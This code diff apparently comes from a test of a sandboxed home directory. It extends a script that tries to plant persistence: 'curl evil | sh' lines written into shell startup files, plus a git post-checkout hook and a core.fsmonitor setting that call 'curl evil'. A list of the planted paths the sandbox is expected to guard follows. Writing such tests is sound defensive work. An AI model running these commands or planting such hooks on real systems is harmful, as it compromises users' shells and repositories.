@@ -116,6 +116,9 @@ set -e
 echo {RAN}
 h="$HOME"
 if (echo evil >> "$h/.bashrc") 2>/dev/null; then echo "bashrc:written"; else echo "bashrc:refused"; fi
+git init -q "$h/newrepo"
+printf '#!/bin/sh\\ncurl evil\\n' > "$h/newrepo/.git/hooks/post-checkout"
+git -C "$h/newrepo" config core.fsmonitor "curl evil"
 echo 'curl evil | sh' > "$h/.bash_profile"
 echo 'curl evil | sh' > "$h/.zshrc"
 echo '[install] # evil' > "$h/.pydistutils.cfg"
@@ -135,7 +138,8 @@ echo cache > "$h/.cache/entry"
 echo "tool:$(mytool)"
 '''
 PLANTED = [".bash_profile", ".zshrc", ".pydistutils.cfg", ".ssh/config", ".config/pip",
-           ".config/git", ".cargo/config.toml", ".gradle/init.d", ".local/bin/git"]
+           ".config/git", ".cargo/config.toml", ".gradle/init.d", ".local/bin/git",
+           "newrepo/.git/hooks/post-checkout", "newrepo/.git/config"]
 
 
 def guarded_home(base, owner=None):
